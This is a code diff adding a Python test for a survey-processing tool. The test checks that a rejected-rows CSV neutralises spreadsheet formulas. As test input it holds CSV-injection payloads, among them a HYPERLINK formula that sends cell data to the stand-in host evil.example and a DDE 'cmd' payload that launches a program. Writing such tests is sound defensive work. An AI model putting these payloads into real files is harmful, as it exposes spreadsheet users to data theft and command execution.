@@ -277,3 +277,23 @@ def test_cli_survey_summary_json_and_errors(tmp_path):
     assert bad.exit_code == 2 and "row 4, column 'ข้อ 1'" in bad.stderr
     assert len(bad.stderr.strip().splitlines()) == 1
     assert runner.invoke(app, ["survey", "summary", str(path), "--bands", "0.7"]).exit_code == 2
+
+
+def test_the_rejected_rows_file_neutralises_formulas(tmp_path):
+    """OWASP CSV injection: the rejected rows are the office's own cells, opened in Excel; none may run."""
+    from kpi6.tasks.survey import write_rejected
+
+    path = tmp_path / "evil.csv"
+    cells = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["Timestamp", "ชื่อ อปท.", "ข้อ 1", "=ข้อเสนอแนะ"])
+        w.writerows([f"{k + 1}/2/2024 10:00:00", f"อบต.{k}", "5", "ดี"] for k in range(8))
+        for k, cell in enumerate(cells):
+            w.writerow([f"{16 + k}/2/2024 10:00:00", cell, "9", cell])  # 9: off the scale, so the row is rejected
+    _, checked, table = read_survey(path, period=ROUND, skip_invalid=True)
+    rejected = list(csv.reader(write_rejected(path, table, checked).open(encoding="utf-8-sig", newline="")))
+    assert rejected[0] == ["row", "problems", "Timestamp", "ชื่อ อปท.", "ข้อ 1", "'=ข้อเสนอแนะ"]
+    # (the reader strips a cell's surrounding whitespace, so "\t=1" is read, and written, as "=1")
+    assert [r[3] for r in rejected[1:]] == ["'" + c.strip() for c in cells] == [r[5] for r in rejected[1:]]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rejected for cell in r)
